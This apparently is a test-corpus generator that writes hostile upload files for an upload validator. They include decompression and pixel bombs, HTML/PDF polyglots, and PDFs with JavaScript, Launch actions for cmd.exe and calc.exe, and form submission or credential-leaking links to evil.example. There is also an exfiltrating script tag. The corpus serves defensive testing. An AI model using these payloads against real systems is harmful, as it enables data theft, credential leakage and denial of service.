"""Writes the hostile files of this folder, the good ones of `good/`, and
`manifest.json`, which says what each must get from `check_upload`: the
code of its refusal, or for a good file its number of pages.

    .venv/bin/python tests/hostile_uploads/make.py

The files are committed; run this again only to change the corpus. Each is
small: the decompression bombs are a few bytes to a hundred kilobytes that
inflate to hundreds of megabytes, the pixel bomb a PNG of under a hundred
bytes whose header claims 12000 × 12500 pixels. Random bytes come from a
seeded generator; only the encrypted PDF's key and the dates inside the
good PDFs change from one run to the next.
"""

import io
import json
import random
import zlib
from collections.abc import Callable
from pathlib import Path

from PIL import Image, PngImagePlugin

HERE = Path(__file__).resolve().parent
GOOD = HERE / "good"

# A PDF by hand ------------------------------------------------------------------------
# Objects are numbered from 1 in the order given; the catalogue is object 1.

HEADER = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
BOX = b"/MediaBox [0 0 595 842]"
DRAWING = b"0.2 0.4 0.8 rg 100 500 300 200 re f"


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), entries, data)


def pdf(objects: list[bytes], *, header: bytes = HEADER, tail: bytes = b"", hidden: bytes = b"") -> bytes:
    """A PDF with a classic cross-reference table; `hidden` goes in the file
    body without being listed in the table, `tail` after the end marker."""
    out = bytearray(header)
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    out += hidden
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)
    return bytes(out + tail)


def one_page(
    *,
    catalog: bytes = b"",
    page: bytes = b"",
    resources: bytes = b"",
    content: bytes | None = None,
    extra=(),
    **options,
) -> bytes:
    """A one-page PDF; `extra` objects are numbered from 5."""
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R %s /Resources << %s >> /Contents 4 0 R %s >>" % (BOX, resources, page),
            content if content is not None else stream(DRAWING),
            *extra,
        ],
        **options,
    )


def with_object_stream(inside: dict[int, bytes], outside: dict[int, bytes]) -> bytes:
    """A PDF 1.5 whose objects `inside` are packed in a compressed object
    stream, listed by a cross-reference stream: only a parser finds them."""
    numbers = sorted(inside)
    bodies = [inside[number] + b" " for number in numbers]
    offsets, position = [], 0
    for body in bodies:
        offsets.append(position)
        position += len(body)
    index = b" ".join(b"%d %d" % pair for pair in zip(numbers, offsets, strict=True)) + b" "
    packed = zlib.compress(index + b"".join(bodies))
    objstm_number = max([*inside, *outside]) + 1
    xref_number = objstm_number + 1
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    where = {}
    for number, body in sorted(outside.items()):
        where[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    where[objstm_number] = len(out)
    objstm = stream(packed, b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode" % (len(numbers), len(index)))
    out += b"%d 0 obj\n%s\nendobj\n" % (objstm_number, objstm)
    where[xref_number] = len(out)
    rows = [b"\x00\x00\x00\x00\x00\xff\xff"]
    for number in range(1, xref_number + 1):
        if number in where:
            rows.append(b"\x01" + where[number].to_bytes(4, "big") + b"\x00\x00")
        else:
            rows.append(b"\x02" + objstm_number.to_bytes(4, "big") + numbers.index(number).to_bytes(2, "big"))
    entries = b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R" % (xref_number + 1)
    out += b"%d 0 obj\n%s\nendobj\n" % (xref_number, stream(b"".join(rows), entries))
    out += b"startxref\n%d\n%%%%EOF\n" % where[xref_number]
    return bytes(out)


def zeros_deflated(megabytes: int, *, twice: bool = False) -> bytes:
    """`megabytes` of zero bytes, deflated (twice: a few hundred bytes)."""
    compressor = zlib.compressobj(9)
    chunk = bytes(1024 * 1024)
    packed = b"".join(compressor.compress(chunk) for _ in range(megabytes)) + compressor.flush()
    return zlib.compress(packed, 9) if twice else packed


def bomb_many_streams() -> bytes:
    """Twenty-five page contents of 8 MB each: none passes a per-stream limit,
    together 200 MB."""
    count = 25
    data = zeros_deflated(8, twice=True)
    contents = [stream(data, b"/Filter [/FlateDecode /FlateDecode]") for _ in range(count)]
    refs = b" ".join(b"%d 0 R" % (4 + n) for n in range(count))
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R %s /Resources << >> /Contents [%s] >>" % (BOX, refs),
            *contents,
        ]
    )


def million_objects() -> bytes:
    """A cross-reference stream of a few kilobytes listing a million objects,
    which a parser reads one by one."""
    out = bytearray(HEADER)
    catalog = len(out)
    out += b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    tree = len(out)
    out += b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
    start = len(out)
    rows = b"\x00\x00\x00\x00\x00\xff\xff"
    rows += b"".join(b"\x01" + offset.to_bytes(4, "big") + b"\x00\x00" for offset in (catalog, tree))
    rows += (b"\x01" + start.to_bytes(4, "big") + b"\x00\x00") * 1_000_000
    entries = b"/Type /XRef /Size 1000003 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode"
    out += b"3 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (stream(zlib.compress(rows, 9), entries), start)
    return bytes(out)


def pages(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (3 + n) for n in range(count))
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [%s] /Count %d %s >>" % (kids, count, BOX),
            *[b"<< /Type /Page /Parent 2 0 R >>" for _ in range(count)],
        ]
    )


def encrypted() -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt(user_password="", owner_password="owner", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


JS = b"<< /S /JavaScript /JS (app.alert\\('hello'\\)) >>"
LINK = b"/Annots [5 0 R]"


def annotation(action: bytes, subtype: bytes = b"/Link") -> bytes:
    return b"<< /Type /Annot /Subtype %s /Rect [100 100 300 150] /A %s >>" % (subtype, action)


# Images -----------------------------------------------------------------------------


def picture(size: tuple[int, int]) -> Image.Image:
    """Something like a photo: smooth shapes, edges, colour."""
    fractal = Image.effect_mandelbrot(size, (-2.2, -1.2, 0.8, 1.2), 64)
    return Image.merge("RGB", (fractal, Image.linear_gradient("L").resize(size), fractal.rotate(180)))


def jpeg(size=(64, 48), **options) -> bytes:
    buffer = io.BytesIO()
    picture(size).save(buffer, format="JPEG", quality=80, **options)
    return buffer.getvalue()


def png(size=(40, 30), info=None) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (200, 180, 120)).save(buffer, format="PNG", pnginfo=info)
    return buffer.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")


def png_claiming(width: int, height: int) -> bytes:
    """A PNG header claiming `width` × `height` grey pixels, with one tiny
    compressed row of data."""
    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + b"\x08\x00\x00\x00\x00"
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(b"IEND", b"")
    )


def jpeg_claiming(width: int, height: int) -> bytes:
    """A small real JPEG whose frame header is rewritten to claim `width` × `height`."""
    data = bytearray(jpeg((16, 16)))
    frame = data.index(b"\xff\xc0\x00\x11")
    data[frame + 5 : frame + 9] = height.to_bytes(2, "big") + width.to_bytes(2, "big")
    return bytes(data)


def jpeg_with_comment(comment: bytes) -> bytes:
    data = jpeg()
    segment = b"\xff\xfe" + (len(comment) + 2).to_bytes(2, "big") + comment
    return data[:2] + segment + data[2:]


def png_with_text(text: str) -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", text)
    return png(info=info)


def png_bad_crc() -> bytes:
    data = bytearray(png())
    idat = data.index(b"IDAT")
    length = int.from_bytes(data[idat - 4 : idat], "big")
    data[idat + 4 + length] ^= 0xFF
    return bytes(data)


def png_zero_width() -> bytes:
    header = (0).to_bytes(4, "big") + (10).to_bytes(4, "big") + b"\x08\x00\x00\x00\x00"
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")


# The corpus -------------------------------------------------------------------------

SCRIPT = b"<script>fetch('/counter/').then(r=>r.text()).then(t=>new Image().src='//evil.example/?'+t)</script>"
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"

HOSTILE: dict[str, tuple[str, str, Callable[[], bytes]]] = {
    # What it is, whatever its name says
    "empty.pdf": ("empty", "no bytes at all", lambda: b""),
    "program-named.pdf": ("wrong_type", "a Windows program renamed .pdf", lambda: b"MZ\x90\x00\x03" + bytes(200)),
    "page-named.jpg": ("wrong_type", "an HTML page renamed .jpg", lambda: HTML),
    "drawing-named.png": (
        "wrong_type",
        "an SVG drawing with a script, renamed .png",
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
    ),
    "animation-named.png": ("wrong_type", "a GIF renamed .png", lambda: b"GIF89a" + bytes(40)),
    "archive-named.pdf": ("wrong_type", "a ZIP archive renamed .pdf", lambda: b"PK\x03\x04" + bytes(60)),
    # Two formats in one file
    "page-then-pdf.pdf": (
        "polyglot",
        "an HTML page with a PDF after it: PDF readers look for the header in the first kilobyte",
        lambda: HTML + b"\n" + one_page(),
    ),
    "junk-then-pdf.pdf": (
        "polyglot",
        "a PDF header after 300 bytes of something else",
        lambda: random.Random(1).randbytes(300) + one_page(),
    ),
    "pdf-script-in-comment.pdf": (
        "polyglot",
        "a PDF whose second line is a comment holding an HTML page",
        lambda: one_page(header=HEADER + b"%" + HTML + b"\n"),
    ),
    "pdf-svg-in-comment.pdf": (
        "polyglot",
        "an SVG tag with an event handler in a comment at the top of a PDF",
        lambda: one_page(header=HEADER + b"% <svg/onload=alert(document.domain)>\n"),
    ),
    "pdf-page-after-end.pdf": (
        "polyglot",
        "a PDF with an HTML page after %%EOF",
        lambda: one_page(tail=b"\n" + HTML),
    ),
    "pdf-shouting-script.pdf": (
        "polyglot",
        "an upper-case <SCRIPT> tag in the middle of a PDF's objects",
        lambda: one_page(catalog=b"/Comment (<SCRIPT SRC=//evil.example/x.js></SCRIPT>)"),
    ),
    "jpeg-page-after-end.jpg": (
        "polyglot",
        "a JPEG with an HTML page after its end marker",
        lambda: jpeg() + HTML,
    ),
    "jpeg-svg-comment.jpg": (
        "polyglot",
        "a JPEG comment holding an SVG tag with an event handler",
        lambda: jpeg_with_comment(b"<svg onload=alert(1)>"),
    ),
    "jpeg-img-comment.jpg": (
        "polyglot",
        "a JPEG comment holding an <img onerror> tag",
        lambda: jpeg_with_comment(b"<img src=x onerror=alert(1)>"),
    ),
    "jpeg-pdf-comment.jpg": (
        "polyglot",
        "a JPEG whose comment starts a PDF, which PDF readers would open",
        lambda: jpeg_with_comment(b"%PDF-1.4\n1 0 obj << >> endobj"),
    ),
    "png-page-after-end.png": (
        "polyglot",
        "a PNG with an HTML page after its IEND chunk",
        lambda: png() + HTML,
    ),
    "png-bytes-after-end.png": (
        "polyglot",
        "a PNG with an archive after its IEND chunk",
        lambda: png() + b"PK\x03\x04" + bytes(40),
    ),
    "png-text-chunk-tag.png": (
        "polyglot",
        "a PNG text chunk holding an <img onerror> tag",
        lambda: png_with_text("<img src=x onerror=alert(1)>"),
    ),
    # PDF that runs something
    "pdf-javascript-on-open.pdf": (
        "active_content",
        "/OpenAction runs JavaScript when the PDF opens",
        lambda: one_page(catalog=b"/OpenAction " + JS),
    ),
    "pdf-javascript-name-tree.pdf": (
        "active_content",
        "a document-level script in the /Names /JavaScript tree",
        lambda: one_page(catalog=b"/Names << /JavaScript << /Names [(init) 5 0 R] >> >>", extra=[JS]),
    ),
    "pdf-page-open-action.pdf": (
        "active_content",
        "an additional action (/AA) on the page runs JavaScript when it is shown",
        lambda: one_page(page=b"/AA << /O " + JS + b" >>"),
    ),
    "pdf-catalog-aa.pdf": (
        "active_content",
        "additional actions (/AA) on the document, even one that only opens an address",
        lambda: one_page(catalog=b"/AA << /WC << /S /URI /URI (http://evil.example/) >> >>"),
    ),
    "pdf-launch-on-open.pdf": (
        "active_content",
        "/OpenAction launches a program",
        lambda: one_page(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"),
    ),
    "pdf-launch-link.pdf": (
        "active_content",
        "a link that launches a program",
        lambda: one_page(page=LINK, extra=[annotation(b"<< /S /Launch /F (calc.exe) >>")]),
    ),
    "pdf-submit-form.pdf": (
        "active_content",
        "a button that sends the form to another server",
        lambda: one_page(
            page=LINK, extra=[annotation(b"<< /S /SubmitForm /F (http://evil.example/collect) >>", b"/Widget")]
        ),
    ),
    "pdf-import-data.pdf": (
        "active_content",
        "an action that imports form data from a file",
        lambda: one_page(page=LINK, extra=[annotation(b"<< /S /ImportData /F (data.fdf) >>")]),
    ),
    "pdf-remote-go-to.pdf": (
        "active_content",
        "a link to another PDF on a network share (leaks the reader's Windows credentials)",
        lambda: one_page(
            page=LINK, extra=[annotation(b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\x.pdf) /D [0 /Fit] >>")]
        ),
    ),
    "pdf-embedded-file.pdf": (
        "active_content",
        "an embedded file (a program) in the /EmbeddedFiles tree",
        lambda: one_page(
            catalog=b"/Names << /EmbeddedFiles << /Names [(invoice.exe) 5 0 R] >> >>",
            extra=[
                b"<< /Type /Filespec /F (invoice.exe) /EF << /F 6 0 R >> >>",
                stream(b"MZ\x90\x00", b"/Type /EmbeddedFile"),
            ],
        ),
    ),
    "pdf-file-attachment.pdf": (
        "active_content",
        "a file attachment annotation",
        lambda: one_page(
            page=LINK,
            extra=[
                b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS << /Type /Filespec /F (a.exe) >> >>"
            ],
        ),
    ),
    "pdf-rich-media.pdf": (
        "active_content",
        "a RichMedia (Flash) annotation",
        lambda: one_page(
            page=LINK,
            extra=[b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] /RichMediaContent << /Assets 6 0 R >> >>"],
        ),
    ),
    "pdf-xfa-form.pdf": (
        "active_content",
        "an XFA form, which carries its own scripts",
        lambda: one_page(catalog=b"/AcroForm << /Fields [] /XFA 5 0 R >>", extra=[stream(b"<xdp:xdp/>")]),
    ),
    "pdf-escaped-name.pdf": (
        "active_content",
        "/JavaScript spelled with #-escapes (/J#61vaScript) to slip past a plain search",
        lambda: one_page(catalog=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
    ),
    "pdf-script-in-object-stream.pdf": (
        "active_content",
        "the JavaScript action packed in a compressed object stream, invisible to a byte search",
        lambda: with_object_stream(
            inside={1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", 4: JS},
            outside={
                2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                3: b"<< /Type /Page /Parent 2 0 R " + BOX + b">>",
            },
        ),
    ),
    "pdf-script-outside-table.pdf": (
        "active_content",
        "a JavaScript object left out of the cross-reference table, for readers that rebuild it",
        lambda: one_page(hidden=b"9 0 obj\n" + JS + b"\nendobj\n"),
    ),
    # PDF that is too much
    "pdf-no-pages.pdf": (
        "no_pages",
        "a PDF with an empty page tree",
        lambda: pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]),
    ),
    "pdf-60-pages.pdf": ("too_many_pages", "60 blank pages (the limit is 50)", lambda: pages(60)),
    "pdf-password.pdf": ("encrypted", "a PDF encrypted with an owner password", encrypted),
    "pdf-bomb-200mb.pdf": (
        "too_much_data",
        "a page content of a few hundred bytes, deflated twice, that inflates to 200 MB",
        lambda: one_page(content=stream(zeros_deflated(200, twice=True), b"/Filter [/FlateDecode /FlateDecode]")),
    ),
    "pdf-bomb-110mb.pdf": (
        "too_much_data",
        "a page content deflated once that inflates to 110 MB",
        lambda: one_page(content=stream(zeros_deflated(110), b"/Filter /FlateDecode")),
    ),
    "pdf-bomb-many-streams.pdf": (
        "too_much_data",
        "25 page contents of 8 MB each once inflated: small one by one, 200 MB together",
        bomb_many_streams,
    ),
    "pdf-million-objects.pdf": (
        "too_much_data",
        "a cross-reference stream of 10 KB listing a million objects (seconds of parsing)",
        million_objects,
    ),
    "pdf-huge-image.pdf": (
        "too_many_pixels",
        "an image of 20000 × 20000 pixels inside a PDF",
        lambda: one_page(
            resources=b"/XObject << /Im1 5 0 R >>",
            extra=[
                stream(
                    zlib.compress(bytes(1000)),
                    b"/Type /XObject /Subtype /Image /Width 20000 /Height 20000 /ColorSpace /DeviceGray "
                    b"/BitsPerComponent 8 /Filter /FlateDecode",
                )
            ],
        ),
    ),
    # PDF that is broken
    "pdf-garbage.pdf": (
        "damaged",
        "a PDF header and then random bytes",
        lambda: HEADER + random.Random(2).randbytes(3000),
    ),
    "pdf-truncated.pdf": ("damaged", "a PDF cut off before its page tree", lambda: one_page()[:60]),
    "pdf-deep-nesting.pdf": (
        "damaged",
        "an array nested 5,000 deep (a parser's recursion runs out)",
        lambda: one_page(catalog=b"/Deep " + b"[" * 5000 + b"]" * 5000),
    ),
    "pdf-page-tree-loop.pdf": (
        "damaged",
        "a page tree whose node is its own child",
        lambda: pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"]),
    ),
    # Images that are too much, or broken
    "pixel-bomb.png": (
        "too_many_pixels",
        "a PNG of under 100 bytes claiming 12000 × 12500 pixels",
        lambda: png_claiming(12000, 12500),
    ),
    "pixel-bomb.jpg": (
        "too_many_pixels",
        "a JPEG of a few hundred bytes claiming 65000 × 65000 pixels",
        lambda: jpeg_claiming(65000, 65000),
    ),
    "jpeg-truncated.jpg": (
        "damaged",
        "a JPEG cut off in the middle of its image data",
        lambda: jpeg((200, 150))[:3000],
    ),
    "jpeg-header-only.jpg": (
        "damaged",
        "a JPEG start marker and nothing readable",
        lambda: b"\xff\xd8\xff\xe0" + bytes(30),
    ),
    "png-truncated.png": ("damaged", "a PNG cut off in the middle of its image data", lambda: png((300, 200))[:120]),
    "png-bad-checksum.png": ("damaged", "a PNG whose image data fails its checksum", png_bad_crc),
    "png-zero-width.png": ("damaged", "a PNG header claiming no width at all", png_zero_width),
}


def good_files() -> dict[str, tuple[int, Callable[[], bytes]]]:
    """What people really send: a scanner's PDF (JPEG pages), a PDF made by
    WeasyPrint (text, a link, fonts), a hand-written one-page PDF, phone
    photos (one progressive, with EXIF and a comment), a screenshot PNG with
    a text chunk."""

    def scanned() -> bytes:
        pictures = [picture((200 + 10 * n, 280)) for n in range(3)]
        buffer = io.BytesIO()
        pictures[0].save(buffer, format="PDF", save_all=True, append_images=pictures[1:], resolution=50)
        return buffer.getvalue()

    def printed() -> bytes:
        from weasyprint import HTML as Page

        body = "".join(f"<p>Điều {n}. Công dân có quyền … ทดสอบ ภาษาไทย</p>" for n in range(30))
        page = f'<h1>Tờ khai đăng ký khai sinh</h1><p><a href="https://dichvucong.gov.vn/">Cổng</a></p>{body}'
        return Page(string=page).write_pdf()

    def photo() -> bytes:
        exif = Image.Exif()
        exif[0x010F] = "Camera maker"
        return jpeg((320, 240), exif=exif, comment=b"Scanned at the counter")

    info = PngImagePlugin.PngInfo()
    info.add_text("Software", "Screenshot tool 1.0")
    return {
        "scan-3-pages.pdf": (3, scanned),
        "weasyprint-2-pages.pdf": (2, printed),
        "one-page.pdf": (1, one_page),
        "photo.jpg": (1, photo),
        "photo-progressive.jpg": (1, lambda: jpeg((320, 240), progressive=True)),
        "screenshot.png": (1, lambda: png((300, 200), info=info)),
    }


def main() -> None:
    GOOD.mkdir(exist_ok=True)
    manifest: dict[str, dict] = {"hostile": {}, "good": {}}
    for name, (code, why, make) in HOSTILE.items():
        (HERE / name).write_bytes(make())
        manifest["hostile"][name] = {"code": code, "why": why}
    for name, (pages_, make) in good_files().items():
        (GOOD / name).write_bytes(make())
        manifest["good"][name] = {"pages": pages_}
    (HERE / "manifest.json").write_text(json.dumps(manifest, indent=2, ensure_ascii=False) + "\n", encoding="utf-8")


if __name__ == "__main__":
    main()
